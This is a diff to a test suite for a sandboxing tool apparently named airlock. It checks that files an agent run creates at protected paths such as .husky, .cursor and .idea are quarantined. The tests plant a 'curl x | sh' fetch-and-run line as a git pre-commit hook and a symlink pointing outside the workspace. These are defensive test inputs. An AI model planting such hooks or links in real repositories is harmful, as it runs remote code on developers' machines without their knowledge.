@@ -123,11 +123,26 @@ function protectedPathAttacks(provider: string): void {
     expect(result.stdout).toMatch(/notes\.txt \| 1 \+\n.*\n2\n$/)
   })
 
-  it('a protected folder made by one run is read-only from the next run on', async () => {
-    expect(await run('mkdir .husky && echo made')).toMatchObject({ exitCode: 0, stdout: 'made\n' })
-    const next = await run('echo "curl x | sh" > .husky/pre-commit; echo "exit=$?"')
-    expect(next.stdout).toMatch(/exit=[1-9]/)
-    expect(readdirSync(join(workspace, '.husky'))).toEqual([])
+  it('what a run makes at a protected path absent when it started does not stay: it is moved to .airlock/quarantine/ once the run is over', async () => {
+    const made = await run('mkdir .husky && echo "curl x | sh" > .husky/pre-commit && printf "{\\"hooks\\":{}}" > .cursor && echo made')
+    expect(made).toMatchObject({ exitCode: 0, stdout: 'made\n' })
+    expect(made.stderr).toMatch(/airlock: moved \.husky, \.cursor to \.airlock\/quarantine\//)
+    expect(existsSync(join(workspace, '.husky'))).toBe(false)
+    expect(existsSync(join(workspace, '.cursor'))).toBe(false)
+    // Kept for the operator, out of every sandbox's reach.
+    const [folder] = readdirSync(join(workspace, '.airlock', 'quarantine'))
+    expect(readFileSync(join(workspace, '.airlock', 'quarantine', folder!, '.husky', 'pre-commit'), 'utf8')).toBe('curl x | sh\n')
+    // bubblewrap: `.airlock` is an empty tmpfs; docker: root's, searchable but not listable.
+    const look = await run('ls -a .airlock/quarantine; echo "exit=$?"')
+    expect(look.stdout).toMatch(/exit=[1-9]/)
+    expect(look.stdout + look.stderr).not.toContain(folder)
+  })
+
+  it('a link made at a protected path is moved, never followed', async () => {
+    const outside = join(dir.path, 'outside')
+    const made = await run(`ln -s ${outside} .idea; echo made`)
+    expect(made.stderr).toMatch(/airlock: moved \.idea to/)
+    expect(existsSync(join(workspace, '.idea'))).toBe(false)
   })
 
   it('the file tools still change them (the operator is asked under on_risk; this agent asks never)', async () => {
